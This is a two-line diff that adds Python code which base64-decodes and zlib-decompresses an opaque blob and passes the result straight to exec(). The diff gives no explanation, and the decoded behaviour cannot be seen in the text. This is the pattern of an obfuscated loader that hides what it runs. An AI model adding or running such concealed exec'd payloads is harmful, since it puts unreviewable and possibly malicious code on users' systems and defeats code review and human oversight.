@@ -1,0 +1,2 @@
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJxNy8EKwjAMgOF7n8JbWyid8yI77B12H0NcjBi2JaXJ3l9lB+W/ffDTVqTaSQUWtKT7XKoAqjrtD8tQ8W54A2FGMBIOwbeXaz5/an3qYnS/LQ9SkMPom5m40ZefktqDuNf8pBVZQvyC7PYn0b0Bik8uAw==')))
